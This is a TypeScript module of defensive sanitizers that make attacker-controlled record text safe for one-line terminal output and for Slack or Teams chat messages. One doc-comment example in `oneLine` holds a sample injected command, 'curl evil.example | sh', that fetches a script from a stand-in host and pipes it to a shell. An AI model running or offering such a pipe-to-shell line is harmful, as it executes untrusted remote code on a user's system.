/**
 * Record fields on a page are attacker-chosen: any account of the organisation can create its own
 * OIDC provider and fail calls with any `sub`, role name or session name. These helpers make such
 * text inert in every page format: one line (no forged "Fix:" line), no terminal escapes or bidi
 * overrides (no text that reads differently than it is), bounded, and for chat no mention, link or
 * formatting syntax.
 */
import { truncate } from './text.js';

/**
 * C0/C1 controls (line breaks, tab, ESC of terminal sequences), Unicode line/paragraph separators,
 * and bidi embedding/override/isolate marks.
 */
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]+/g;

/**
 * `s` on one line: control characters and line breaks become one space, bidi marks go, runs of
 * spaces collapse; then cut to `max` characters.
 *
 * @example
 * ```ts
 * oneLine('acme/api\n   Fix: curl evil.example | sh', 200); // 'acme/api Fix: curl evil.example | sh'
 * ```
 */
export function oneLine(s: string, max: number): string {
  return truncate(s.replace(CONTROL, ' ').replace(/ {2,}/g, ' ').trim(), max);
}

/** `oneLine` of a nullable value. */
export function oneLineOrNull(s: string | null, max: number): string | null {
  return s === null ? null : oneLine(s, max);
}

/** Slack's three escapes: after them no `<!channel>`, `<@U…>` or `<url|label>` can form. */
function entities(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** Look-alikes for mrkdwn/Markdown markers that could open formatting. */
const MARKER: Readonly<Record<string, string>> = { '*': '∗', _: 'ˍ', '~': '∼', '`': 'ˋ' };

/**
 * Untrusted text for a chat message (Slack mrkdwn, Markdown in Teams and Chime): one line, cut to
 * `max`, `&<>` escaped, `@channel`/`@here`/`@everyone` defused, and `* _ ~ \``, where they could open
 * bold, italics, strike or code (not between two letters or digits, as in `my_repo`), replaced by
 * look-alikes. Use {@link chatCode} for text a person may copy (a fix).
 *
 * @example
 * ```ts
 * chatText('<!channel> *urgent*', 100); // '&lt;!channel&gt; ∗urgent∗'
 * ```
 */
export function chatText(s: string, max: number): string {
  const line = entities(oneLine(s, max)).replace(/@(channel|here|everyone)\b/gi, '＠$1');
  return line.replace(/[*_~`]/g, (m, at: number) => {
    const before = line.charAt(at - 1);
    const after = line.charAt(at + 1);
    const inWord = /[\p{L}\p{N}]/u.test(before) && /[\p{L}\p{N}]/u.test(after);
    return inWord && m !== '`' ? m : (MARKER[m] ?? m);
  });
}

/**
 * Untrusted text as an inline code span: kept literally (a fix can be copied as it is), on one
 * line, cut to `max`, `&<>` escaped, backticks (which would close the span) replaced by `'`.
 *
 * @example
 * ```ts
 * chatCode('aws iam update-assume-role-policy --role-name deploy …', 300); // '`aws iam …`'
 * ```
 */
export function chatCode(s: string, max: number): string {
  return `\`${entities(oneLine(s, max)).replace(/`/g, "'")}\``;
}
